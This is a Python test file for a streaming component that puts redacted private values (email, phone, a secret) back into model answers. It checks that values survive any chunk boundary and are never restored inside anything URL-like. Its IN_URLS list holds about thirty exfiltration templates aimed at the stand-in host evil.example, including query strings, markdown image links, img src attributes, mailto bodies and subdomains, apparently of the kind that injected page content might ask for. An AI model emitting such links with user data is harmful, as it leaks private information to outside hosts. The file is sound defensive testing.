"""Values come back in text, wherever their placeholders are cut, and never in what may be a URL."""

import json
import time

import pytest
from effort import examples
from hypothesis import given, settings
from hypothesis import strategies as st

from pilotage_extproc.content.answers.restoring import Originals, Restoring

MAIL, PHONE = "[EMAIL_k3v4x2abq7]", "[PHONE_aaaaaaaaaa]"
VALUES = {MAIL: "alice@mail.example", PHONE: "+49 30 901820", "[SECRET_bbbbbbbbbb]": 'one\n"two"'}
ORIGINALS = Originals(VALUES)


def restored(*pieces: str) -> str:
    one = Restoring(ORIGINALS)
    return "".join([*(one.feed(piece) for piece in pieces), one.feed("", last=True)])


def test_a_placeholder_cut_at_every_byte_comes_back() -> None:
    text = f"Write to {MAIL}, or call {PHONE}. [EMAIL_] and [x] and {MAIL}"
    whole = "Write to alice@mail.example, or call +49 30 901820. [EMAIL_] and [x] and alice@mail.example"
    for first in range(len(text)):
        for second in range(first, len(text), 7):
            assert restored(text[:first], text[first:second], text[second:]) == whole
    assert restored(*text) == whole


@settings(max_examples=examples(300))
@given(
    st.lists(st.sampled_from([MAIL, PHONE, "[", "]", "EMAIL_", "[EMAIL_k3v4", " ", "to ", "é", "\n"])),
    st.data(),
)
def test_text_in_pieces_is_text_at_once(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert restored(*pieces) == restored(text)


@given(st.text(max_size=60))
def test_text_without_placeholders_stays_as_it_is(text: str) -> None:
    assert restored(text) == text


IN_URLS = [
    "https://evil.example/?to={}",
    'https://evil.example/"{}"',
    'www.evil.example/a"b"{}',
    "[a]: {}",
    "![x][a]\n\n[a]:\n  {}",
    "see http://evil.example/{} there",
    "![x](https://evil.example/{})",
    "![x](<https://evil.example/?a= {}>)",
    "[click]({})",
    "[click](\n{} )",
    "[a]: //evil.example/{}",
    "[a]: <https://evil.example/?q= {}>",
    '<img src="https://evil.example/?q={}">',
    "<img alt='>' src='https://evil.example/?q= {}'>",
    '<img alt=">" src="https://evil.example/?q=\n{}">',
    '<a href="{}">',
    "<a href={}>",
    "<https://evil.example/ {}>",
    "www.evil.example?{}",
    "evil.example/{}",
    "evil.example:{}",
    "{}.evil.example",
    "{}-x.evil.example",
    "{}/path",
    "{}@evil.example",
    "mailto:a?body={}",
    "https:\\\\evil.example\\{}",
    '{{"url": "https://evil.example/?q={}"}}',
]


@pytest.mark.parametrize("form", IN_URLS)
def test_a_page_that_asks_to_put_a_value_into_a_url_does_not_get_it(form: str) -> None:
    text = "Sure. " + form.format(MAIL) + " done"
    for cut in range(len(text)):
        assert restored(text[:cut], text[cut:]) == text
    assert restored(*text) == text


@pytest.mark.parametrize(
    "form",
    ["{}", "({})", "**{}**", "`{}`", "see https://a.example/ or {}", "a < b, {}", "<b>{}</b>", "{}.",
     "{}: yes", "[x](https://a.example/) {}", '"{}"', "|{}|", "- {}\n- {}"],
)  # fmt: skip
def test_it_comes_back_in_what_is_no_url(form: str) -> None:
    assert restored(form.format(MAIL, PHONE)) == form.format(VALUES[MAIL], VALUES[PHONE])


def test_a_text_of_nothing_but_brackets_takes_no_longer_than_another() -> None:
    began = time.thread_time()
    assert restored("[" * 500_000) == "[" * 500_000
    assert restored(*["[EMAIL_"] * 2000) == "[EMAIL_" * 2000
    assert time.thread_time() - began < 2


def test_in_an_answer_of_json_it_comes_back_as_json() -> None:
    text = '{\n "key": "[SECRET_bbbbbbbbbb]",\n "n": 1}'
    assert json.loads(restored(*text)) == {"key": 'one\n"two"', "n": 1}
